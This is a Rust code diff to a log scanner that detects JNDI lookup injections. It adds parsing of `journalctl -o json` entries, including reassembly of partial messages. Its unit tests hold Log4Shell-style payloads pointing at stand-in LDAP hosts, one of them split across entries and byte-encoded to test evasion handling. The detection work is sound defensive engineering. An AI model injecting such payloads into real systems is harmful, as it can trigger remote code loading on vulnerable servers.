@@ -33,6 +33,7 @@ pub enum LogFormat {
     /// and the bytes), entries separated by an empty line. `MESSAGE` is the record, the
     /// time `__REALTIME_TIMESTAMP` (µs), the stream `PRIORITY` (3 = stderr, 6 = stdout), and
     /// `CONTAINER_PARTIAL_MESSAGE=true` parts are joined per `CONTAINER_ID` and stream.
+    /// `journalctl -o json` lines (the same fields as one object per line) are read too.
     Journal,
     /// The `local` driver's protobuf entries, decoded to CRI lines ([`super::local`]): one
     /// line per entry, offsets in the decoded text.
@@ -45,7 +46,11 @@ impl LogFormat {
         let h = head.strip_prefix(b"\xef\xbb\xbf").unwrap_or(head);
         if h.starts_with(b"{\"log\":") {
             LogFormat::JsonFile
-        } else if h.starts_with(b"__CURSOR=") || h.starts_with(b"__REALTIME_TIMESTAMP=") {
+        } else if h.starts_with(b"__CURSOR=")
+            || h.starts_with(b"__REALTIME_TIMESTAMP=")
+            || (h.starts_with(b"{")
+                && memchr::memmem::find(first_line(h), b"\"__REALTIME_TIMESTAMP\"").is_some())
+        {
             LogFormat::Journal
         } else if split_cri(h.split(|c| *c == b'\n').next().unwrap_or(h)).is_some() {
             LogFormat::Cri
@@ -53,6 +58,10 @@ impl LogFormat {
             LogFormat::Text
         }
     }
+}
+
+fn first_line(h: &[u8]) -> &[u8] {
+    h.split(|c| *c == b'\n').next().unwrap_or(h)
 }
 
 /// One CRI log line split into (time, stream, partial, message), if it is one.
@@ -401,6 +410,10 @@ impl State<'_> {
             self.journal_flush();
             return;
         }
+        if raw.first() == Some(&b'{') && j.start.is_none() {
+            self.journal_json(raw, line, offset);
+            return;
+        }
         let j = &mut self.journal;
         j.start.get_or_insert((line, offset));
         match memchr::memchr(b'=', raw) {
@@ -426,6 +439,38 @@ impl State<'_> {
             }
             None => j.binary_name = Some(raw == b"MESSAGE"),
         }
+    }
+
+    /// One `journalctl -o json` line: the same fields as one JSON object (`MESSAGE` a
+    /// string, or an array of bytes when it is not UTF-8).
+    fn journal_json(&mut self, raw: &[u8], line: u64, offset: u64) {
+        let Ok(serde_json::Value::Object(o)) = serde_json::from_slice::<serde_json::Value>(raw) else {
+            self.bad_json += 1;
+            self.first_bad_json.get_or_insert((line, offset));
+            let time = line_time(raw, self.cfg.syslog_year);
+            self.record(raw, line, offset, time, None);
+            return;
+        };
+        let s = |k: &str| o.get(k).and_then(|v| v.as_str()).map(String::from);
+        let message = match o.get("MESSAGE") {
+            Some(serde_json::Value::String(m)) => Some(m.clone().into_bytes()),
+            Some(serde_json::Value::Array(a)) => {
+                Some(a.iter().filter_map(|b| b.as_u64()).map(|b| b as u8).collect::<Vec<u8>>())
+            }
+            _ => None,
+        };
+        self.journal = JournalEntry {
+            start: Some((line, offset)),
+            message,
+            time: s("__REALTIME_TIMESTAMP").and_then(|t| t.parse::<i64>().ok()).map(|us| {
+                Timestamp::from_unix(us.div_euclid(1_000_000), (us.rem_euclid(1_000_000) * 1000) as u32)
+            }),
+            priority: s("PRIORITY").and_then(|p| p.parse().ok()),
+            container: s("CONTAINER_ID_FULL").or_else(|| s("CONTAINER_ID")),
+            partial: s("CONTAINER_PARTIAL_MESSAGE").as_deref() == Some("true"),
+            ..Default::default()
+        };
+        self.journal_flush();
     }
 
     /// The entry read so far is complete: its message joins its container's stream.
@@ -849,5 +894,17 @@ not a cri line ${jndi:ldap://stray.example/x}\n";
             );
         }
         assert_eq!(LogFormat::sniff(b"__CURSOR=s=1;i=2\n"), LogFormat::Journal);
+        // `journalctl -o json`: one object per line, the same joins.
+        let json = b"{\"__CURSOR\":\"s=1\",\"__REALTIME_TIMESTAMP\":\"1764252000000000\",\"PRIORITY\":\"6\",\"CONTAINER_ID\":\"aaaa\",\"CONTAINER_PARTIAL_MESSAGE\":\"true\",\"MESSAGE\":\"GET /?q=${jn\"}\n\
+{\"__CURSOR\":\"s=2\",\"__REALTIME_TIMESTAMP\":\"1764252000000001\",\"PRIORITY\":\"6\",\"CONTAINER_ID\":\"bbbb\",\"MESSAGE\":\"noise\"}\n\
+{\"__CURSOR\":\"s=3\",\"__REALTIME_TIMESTAMP\":\"1764252000000002\",\"PRIORITY\":\"6\",\"CONTAINER_ID\":\"aaaa\",\"MESSAGE\":[100,105,58,108,100,97,112,58,47,47,106,46,101,120,97,109,112,108,101,47,97,125]}\n";
+        assert_eq!(LogFormat::sniff(json), LogFormat::Journal);
+        let scan = scan_stream(&json[..], LogFormat::Journal, &engine, &ScanConfig::default(), &loc, 0);
+        let jndi: Vec<_> = scan
+            .hits
+            .iter()
+            .filter_map(|h| h.found.jndi.as_ref().map(|j| (h.locator.line, j.host.clone())))
+            .collect();
+        assert_eq!(jndi, [(Some(1), Some("j.example".to_string()))]);
     }
 }
